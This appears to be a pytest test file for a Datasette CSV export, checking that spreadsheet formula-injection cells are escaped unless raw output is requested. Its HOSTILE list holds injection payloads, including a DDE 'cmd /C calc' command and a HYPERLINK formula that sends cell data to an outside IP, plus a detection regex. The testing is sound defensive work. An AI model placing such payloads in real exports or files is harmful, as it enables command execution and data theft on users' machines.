"""What a spreadsheet would run is made text in every CSV, and given as it is to a program that asks for it."""

import asyncio
import csv
import io
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from datasette.app import Datasette
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.conftest import run_readout
from tests.made import make_project, schema

from .csv_site import DATASETTES, CsvSite, csv_site

TABLES = schema().tables
FORMULA = "cmd|' /C calc'!A0"
HOSTILE = [
    f"={FORMULA}", f"+{FORMULA}", f"-2+3+{FORMULA}", "@SUM(1+1)*" + FORMULA, f"\t={FORMULA}", f"\r={FORMULA}",
    f"＝{FORMULA}", f'"={FORMULA}', f" ={FORMULA}", f"\u200b={FORMULA}", f"well;={FORMULA}", f"said\n={FORMULA}",
    '=HYPERLINK("http://198.51.100.1/?"&A1,"more")', f",={FORMULA}", f'",{FORMULA}', f"'={FORMULA}",
]  # fmt: skip
#: Two programs: one that knows that a comma separates, one that splits at semicolons and knows no quotation marks.
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]?\d+)?", re.ASCII)
DANGEROUS = re.compile(r'[\s"\0-\x20\u200b\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]')


def dangers(text: str) -> list[str]:
    """The cells that a spreadsheet would run, whether it splits a CSV at commas or at semicolons."""
    whole = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]
    split = [cell for line in re.split("[\r\n]+", text) for cell in re.split("[;\t]", line)]
    return [cell for cell in whole + split if DANGEROUS.match(cell) and not NUMBER.match(cell)]


def spoil(database: Path) -> None:
    """Put what a spreadsheet would run into every text of every table, but for what the views find rows by."""
    with closing(sqlite3.connect(database)) as connection:
        connection.executescript("PRAGMA ignore_check_constraints = ON; PRAGMA foreign_keys = OFF")
        for at, name in enumerate(TABLES):
            columns = connection.execute(f'PRAGMA table_info("{name}")').fetchall()
            for number, (_, column, kind, _, _, key) in enumerate(columns):
                if kind == "TEXT" and not key and column not in (*TABLES[name].references, "stance"):
                    text = HOSTILE[(at + number) % len(HOSTILE)]
                    connection.execute(f'UPDATE OR IGNORE "{name}" SET "{column}" = ? || rowid', (text,))
        connection.commit()


@pytest.fixture(scope="module", params=DATASETTES, ids=["datasette-0", "datasette-1"])
def site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[CsvSite]:
    """A database that is hostile in every text, served."""
    folder = tmp_path_factory.mktemp("hostile")
    project = make_project(folder / "project")
    assert run_readout("build", project=project).code == 0
    shutil.copy(project / "build" / "readout.db", folder)
    spoil(folder / "readout.db")
    with csv_site(request.param, folder / "readout.db", project / "metadata.yml") as running:
        yield running


def test_every_table_and_view_is_harmless(site: CsvSite) -> None:
    """No cell runs, with and without labels; the raw variant is the database's own."""
    names = [*TABLES, *(row[0] for row in site.found("SELECT name FROM sqlite_master WHERE type = 'view'"))]
    seen = 0
    for name in names:
        for labels in ("off", "on"):
            assert dangers(site.get(f"/readout/{name}.csv", _labels=labels).text) == [], name
        raw = site.get(f"/readout/{name}.csv", _raw="on").text
        seen += len(dangers(raw))
        rows = list(csv.reader(io.StringIO(raw, newline="")))
        columns = ", ".join(f'"{column}"' for column in rows[0])
        told = site.found(f'SELECT {columns} FROM "{name}"')
        assert sorted(rows[1:]) == sorted(["" if v is None else str(v) for v in row] for row in told), name
    assert seen > 1000


@pytest.mark.parametrize("text", HOSTILE)
def test_sql_is_harmless(site: CsvSite, text: str) -> None:
    """In its rows and in the names of its columns, which an address may hold."""
    name = text.replace('"', '""')
    parameters = {"sql": f'SELECT :text AS "{name}", -2 AS n, -2.5 AS r', "text": text}
    answer = site.get(site.sql_path, **parameters)
    assert dangers(answer.text) == []
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert rows[1] == [rows[0][0], "-2", "-2.5"]
    assert rows[1][0].replace("'", "") == text.replace("'", "")
    raw = site.asked(parameters["sql"], text=text, _raw="on")
    assert raw == [[text, "n", "r"], [text, "-2", "-2.5"]]


def test_saved_queries_and_rows_are_harmless(site: CsvSite) -> None:
    """They hold hostile text, too."""
    for path in ("/readout/left_out.csv?article=", "/readout/actors/mayor.csv?_labels=on"):
        assert dangers(site.get(path + "&_raw=on").text) != []
        assert dangers(site.get(path).text) == []


@pytest.mark.parametrize("value", ["on", "1", "true", "yes"])
def test_raw_has_to_be_asked_for(site: CsvSite, value: str) -> None:
    """`_raw=off` is no."""
    sql = "SELECT '=1' AS a"
    assert site.asked(sql, _raw=value)[1] == ["=1"]
    for no in ("off", "0", "false", ""):
        assert site.asked(sql, _raw=no)[1] == ["'=1"]


values = st.none() | st.integers(-(2**63), 2**63 - 1) | st.floats(allow_nan=False) | st.text(max_size=30) | st.binary()


@settings(max_examples=60)
@given(st.lists(st.tuples(values, values), max_size=5))
def test_raw_gives_back_what_went_in(tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[Any, Any]]) -> None:
    """Numbers to the last digit, any text, bytes as SQLite writes them; null and empty text are both nothing."""
    database = tmp_path_factory.mktemp("values") / "readout.db"
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("CREATE TABLE pairs (a, b)")
        connection.executemany("INSERT INTO pairs VALUES (?, ?)", [tuple(map(_storable, row)) for row in rows])
        connection.commit()
    answer = asyncio.run(_get(database, "/readout/pairs.csv?_raw=on&_header=off"))
    told = [row[1:] for row in csv.reader(io.StringIO(answer, newline=""))]
    assert told == [[_written(_storable(value)) for value in row] for row in rows]


async def _get(database: Path, path: str) -> str:
    answer = await Datasette([], immutables=[str(database)]).client.get(path)
    assert answer.status_code == 200
    return str(answer.content.decode())


def _storable(value: Any) -> Any:
    return value.encode("utf-8", "replace").decode() if isinstance(value, str) else value


def _written(value: Any) -> str:
    if isinstance(value, bytes):
        return f"X'{value.hex().upper()}'"
    return "" if value is None else str(value)
